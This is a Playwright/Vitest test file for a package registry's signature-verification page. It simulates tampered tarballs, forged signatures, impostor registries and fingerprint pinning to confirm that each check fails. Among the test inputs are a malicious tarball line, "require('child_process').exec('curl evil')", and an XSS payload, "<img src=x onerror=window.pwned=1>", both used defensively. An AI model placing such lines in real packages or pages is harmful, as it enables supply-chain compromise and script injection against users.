/**
 * The attacks the package page's checks exist for, end to end in Chromium: the page comes from
 * the real registry, and `page.route` stands in for whoever sits between it and the browser (a
 * compromised CDN, a proxy, a tampered storage bucket), serving altered bytes for one resource.
 * Each must turn exactly the link it breaks to `failed`, with a reason. Then the user's own pin:
 * a wrong fingerprint fails the identity, the right one verifies and says it came from the pin.
 */

import type { Browser, Page, Route } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { generateNpmSigningKey } from "../../src/core/index.js";
import { pinnedStorageKey } from "../../src/web/checks.js";
import { closeBrowser, launchBrowser, newContext, screenshot } from "../helpers/browser.js";
import { AI, loggedBundle, PACKAGE, pagePath, publish, publishBytes, readChecks, review, settledChecks, startWorld, statuses, watchPage, type Published, type World } from "./fixture.js";

let world: World;
/** Another registry (another key) that claims the same origin and holds the same publication. */
let impostor: World;
let browser: Browser;
let latest: Published;
let olderBundle: Record<string, unknown>;
let impostorBundle: Record<string, unknown>;

beforeAll(async () => {
  browser = await launchBrowser();
  // With an npm signing key: the npm version documents carry dist.signatures for the browser to check.
  world = await startWorld({ vars: { NPM_SIGNING_KEY: (await generateNpmSigningKey()).secret } });
  await publish(world, { name: PACKAGE, version: "1.0.0", description: "A widget" }, { "index.js": "module.exports = 1;\n" });
  latest = await publish(world, { name: PACKAGE, version: "1.1.0", description: "A widget, now with more widget" }, { "index.js": "module.exports = 2;\n", "README.md": "# Widget\n" }, AI);
  await review(world, latest, "read every line");
  olderBundle = await loggedBundle(world, PACKAGE, "1.0.0");
  await loggedBundle(world, PACKAGE, "1.1.0");

  // Same publisher key, same bytes, same origin claimed: only the registry key differs.
  impostor = await startWorld({ publisher: world.publisher, vars: { REGISTRY_ORIGIN: world.registry.url } });
  await publish(impostor, { name: PACKAGE, version: "1.0.0", description: "A widget" }, { "index.js": "module.exports = 1;\n" });
  await publishBytes(impostor, latest, AI);
  impostorBundle = await loggedBundle(impostor, PACKAGE, "1.1.0");
}, 180_000);

afterAll(async () => {
  await closeBrowser(browser);
  await Promise.all([world?.registry.stop(), impostor?.registry.stop()].map((p) => p?.catch(() => undefined)));
});

const bundlePath = `/-/countersign/v1/packages/${PACKAGE}/1.1.0`;
const samePath = (path: string) => (url: URL) => decodeURIComponent(url.pathname) === path;

/** The package page in a fresh context, with `intercept` installed before it loads. */
async function openWith(intercept: (page: Page) => Promise<unknown>): Promise<Page> {
  const context = await newContext(browser);
  const page = await context.newPage();
  watchPage(page);
  await intercept(page);
  expect((await page.goto(`${world.registry.url}${pagePath(PACKAGE)}`))?.status()).toBe(200);
  return page;
}

/** Serves the real bundle with `change` applied to its JSON. */
const alteredBundle = (change: (bundle: Record<string, unknown>) => Record<string, unknown>) => async (route: Route) => {
  const response = await route.fetch();
  const bundle = JSON.parse(await response.text()) as Record<string, unknown>;
  await route.fulfill({ response, body: JSON.stringify(change(bundle)) });
};

describe("altered bytes on the way to the browser", () => {
  it("one byte of the tarball changed: the artifact digests fail, and so do the files", async () => {
    let served = 0;
    const page = await openWith((p) =>
      p.route(samePath(`${bundlePath}/artifact`), async (route) => {
        const response = await route.fetch();
        const body = Buffer.from(await response.body());
        body[Math.floor(body.length / 2)]! ^= 0x01;
        served++;
        await route.fulfill({ response, body });
      }),
    );
    const checks = await settledChecks(page);
    expect(served).toBeGreaterThan(0);
    expect(statuses(checks), JSON.stringify(checks.checks, null, 2)).toMatchObject({ identity: "verified", publisher: "verified", countersignature: "verified", log: "verified", artifact: "failed", files: "failed" });
    expect(checks.checks.artifact.detail).not.toBe("");
    expect(Object.values(checks.files)).not.toContain("verified");
    await screenshot(page, "attack-artifact");
    await page.context().close();
  });

  it("a tarball rebuilt with one file changed: the artifact fails and that file's row fails", async () => {
    const { npmTarball } = await import("../helpers/tarball.js");
    const evil = await npmTarball({ name: PACKAGE, version: "1.1.0", description: "A widget, now with more widget" }, { "index.js": "require('child_process').exec('curl evil');\n", "README.md": "# Widget\n" });
    const page = await openWith((p) => p.route(samePath(`${bundlePath}/artifact`), async (route) => route.fulfill({ response: await route.fetch(), body: Buffer.from(evil) })));
    const checks = await settledChecks(page);
    expect(statuses(checks)).toMatchObject({ publisher: "verified", countersignature: "verified", artifact: "failed", files: "failed" });
    expect(checks.files["index.js"]).toBe("failed");
    await page.context().close();
  });

  it("the publisher's envelope altered (the statement names other digests): the publisher signature fails", async () => {
    const page = await openWith((p) =>
      p.route(
        samePath(bundlePath),
        alteredBundle((bundle) => {
          const publisher = bundle.publisher as { payload: string };
          const statement = JSON.parse(Buffer.from(publisher.payload, "base64").toString("utf8")) as { subject: { digest: Record<string, string> }[] };
          statement.subject[0]!.digest.sha256 = "0".repeat(64);
          return { ...bundle, publisher: { ...publisher, payload: Buffer.from(JSON.stringify(statement)).toString("base64") } };
        }),
      ),
    );
    const checks = await settledChecks(page);
    expect(checks.checks.publisher.status, JSON.stringify(checks.checks, null, 2)).toBe("failed");
    expect(checks.checks.publisher.detail).not.toBe("");
    expect(checks.checks.identity.status).toBe("verified");
    expect(Object.values(checks.files)).not.toContain("verified"); // nothing rests on an unverified statement
    await screenshot(page, "attack-publisher");
    await page.context().close();
  });

  it("the bundle from another registry's key: the countersignature fails, naming the expected and the actual fingerprint", async () => {
    const page = await openWith((p) => p.route(samePath(bundlePath), async (route) => route.fulfill({ response: await route.fetch(), body: JSON.stringify(impostorBundle) })));
    const checks = await settledChecks(page);
    expect(statuses(checks), JSON.stringify(checks.checks, null, 2)).toMatchObject({ identity: "verified", publisher: "verified", countersignature: "failed" });
    const why = checks.checks.countersignature.detail;
    expect(why).toContain(world.registry.key.keyid);
    expect(why).toContain(impostor.registry.key.keyid);
    expect(checks.checks.log.status).not.toBe("verified");
    await screenshot(page, "attack-countersignature");
    await page.context().close();
  });

  it("a tlogProof for another entry (1.0.0's): the log link fails", async () => {
    const page = await openWith((p) => p.route(samePath(bundlePath), alteredBundle((bundle) => ({ ...bundle, tlogProof: olderBundle.tlogProof }))));
    const checks = await settledChecks(page);
    expect(statuses(checks), JSON.stringify(checks.checks, null, 2)).toMatchObject({ identity: "verified", publisher: "verified", countersignature: "verified", log: "failed", artifact: "verified" });
    expect(checks.checks.log.detail).not.toBe("");
    await screenshot(page, "attack-log");
    await page.context().close();
  });

  it("npm's version document with a signature over other bytes: the npm registry signature fails", async () => {
    let served = 0;
    const page = await openWith((p) =>
      p.route(samePath(`/${PACKAGE}/1.1.0`), async (route) => {
        const response = await route.fetch();
        const doc = JSON.parse(await response.text()) as { dist: { signatures: { keyid: string; sig: string }[] } };
        const [first] = doc.dist.signatures;
        // A valid signature by the same key, for another version: real bytes, wrong statement.
        const other = JSON.parse(await (await fetch(`${world.registry.url}/${PACKAGE.replace("/", "%2f")}/1.0.0`)).text()) as typeof doc;
        doc.dist.signatures = [{ keyid: first!.keyid, sig: other.dist.signatures[0]!.sig }];
        served++;
        await route.fulfill({ response, body: JSON.stringify(doc) });
      }),
    );
    const checks = await settledChecks(page);
    expect(served).toBeGreaterThan(0);
    expect(statuses(checks), JSON.stringify(checks.checks, null, 2)).toMatchObject({ identity: "verified", publisher: "verified", countersignature: "verified", artifact: "verified", "npm-signature": "failed" });
    await page.context().close();
  });

  it("the identity document swapped for another registry's: the identity fails", async () => {
    const identity = await (await fetch(`${impostor.registry.url}/.well-known/countersign.json`)).text();
    const page = await openWith((p) => p.route(samePath("/.well-known/countersign.json"), async (route) => route.fulfill({ response: await route.fetch(), body: identity })));
    const checks = await settledChecks(page);
    expect(checks.checks.identity.status, JSON.stringify(checks.checks, null, 2)).toBe("failed");
    expect(checks.checks.countersignature.status).not.toBe("verified");
    await page.context().close();
  });
});

describe("checking against the fingerprint the user pinned", () => {
  async function pin(page: Page, fingerprint: string) {
    await page.locator("#pinned-fingerprint").fill(fingerprint);
    await page.locator("#pin-form").getByRole("button").click();
    // The script resets the chain to pending and checks again.
    await page.waitForFunction((fp) => document.getElementById("checked-against")?.textContent?.includes(fp), fingerprint, { timeout: 10_000 });
  }

  it("a different fingerprint: the identity and the countersignature fail", async () => {
    const page = await openWith(async () => undefined);
    await settledChecks(page);
    await pin(page, impostor.registry.key.keyid);
    const checks = await settledChecks(page);
    expect(statuses(checks), JSON.stringify(checks.checks, null, 2)).toMatchObject({ identity: "failed", countersignature: "failed" });
    expect(checks.checkedAgainst).toContain(impostor.registry.key.keyid);
    expect(checks.checks.identity.detail).toContain(impostor.registry.key.keyid);
    await screenshot(page, "pinned-wrong");
    await page.context().close();
  });

  it("the right fingerprint: everything verifies, and the page says the fingerprint came from the user's pin (kept for next time)", async () => {
    const page = await openWith(async () => undefined);
    await settledChecks(page);
    await pin(page, world.registry.key.keyid);
    const checks = await settledChecks(page);
    expect(statuses(checks)).toMatchObject({ identity: "verified", publisher: "verified", countersignature: "verified", log: "verified", artifact: "verified", files: "verified", reviews: "verified" });
    expect(checks.checkedAgainst).toContain(world.registry.key.keyid);
    expect(checks.checkedAgainst).toMatch(/pin/i);
    await screenshot(page, "pinned-right");
    // Stored for this origin, and used on the next visit.
    expect(await page.evaluate((key) => localStorage.getItem(key), pinnedStorageKey(world.registry.url))).toContain(world.registry.key.keyid);
    await page.reload();
    const again = await settledChecks(page);
    expect(again.checkedAgainst).toMatch(/pin/i);
    expect(again.checks.identity.status).toBe("verified");
    await page.context().close();
  });

  it("a malformed fingerprint is refused with a message, never treated as a pin", async () => {
    const page = await openWith(async () => undefined);
    await settledChecks(page);
    await page.locator("#pinned-fingerprint").fill("<img src=x onerror=window.pwned=1>");
    await page.locator("#pin-form").getByRole("button").click();
    await expect.poll(() => page.locator("#checked-against").innerText()).toContain("is not a registry fingerprint");
    expect(await page.locator("#checked-against").innerText()).toContain("<img src=x onerror=window.pwned=1>"); // as text
    expect(await page.evaluate(() => (window as { pwned?: unknown }).pwned)).toBeUndefined();
    expect(await page.evaluate((key) => localStorage.getItem(key), pinnedStorageKey(world.registry.url))).toBeNull();
    // The checks stay as they were, against the page's fingerprint.
    expect(statuses(await readChecks(page))).toMatchObject({ identity: "verified", countersignature: "verified" });
    await page.context().close();
  });

  it("?fingerprint= in the address: checked against it, and the page says where it came from", async () => {
    const context = await newContext(browser);
    const page = await context.newPage();
    await page.goto(`${world.registry.url}${pagePath(PACKAGE)}?fingerprint=${encodeURIComponent(impostor.registry.key.keyid)}`);
    const wrong = await settledChecks(page);
    expect(statuses(wrong)).toMatchObject({ identity: "failed", countersignature: "failed" });
    expect(wrong.checkedAgainst).toContain("?fingerprint=");
    await page.goto(`${world.registry.url}${pagePath(PACKAGE)}?fingerprint=${encodeURIComponent(world.registry.key.keyid)}`);
    const right = await settledChecks(page);
    expect(statuses(right)).toMatchObject({ identity: "verified", countersignature: "verified", log: "verified", artifact: "verified" });
    await context.close();
  });

  it("a link with ?fingerprint= never overrides the user's pin: an impostor serving its own identity and bundle still fails", async () => {
    const context = await newContext(browser);
    const page = await context.newPage();
    await page.goto(`${world.registry.url}${pagePath(PACKAGE)}`);
    await settledChecks(page);
    await pin(page, world.registry.key.keyid);
    await settledChecks(page);
    // The attacker controls the answers (its identity document and bundle) and sends a link naming its key.
    const impostorIdentity = await (await fetch(`${impostor.registry.url}/.well-known/countersign.json`)).text();
    await page.route("**/.well-known/countersign.json", (route) => route.fulfill({ status: 200, contentType: "application/json", body: impostorIdentity }));
    await page.goto(`${world.registry.url}${pagePath(PACKAGE)}?fingerprint=${encodeURIComponent(impostor.registry.key.keyid)}`);
    const checks = await settledChecks(page);
    expect(checks.checks.identity.status).toBe("failed");
    expect(checks.checkedAgainst).toContain(world.registry.key.keyid);
    expect(checks.checkedAgainst).toContain("your pin wins");
    await context.close();
  });
});
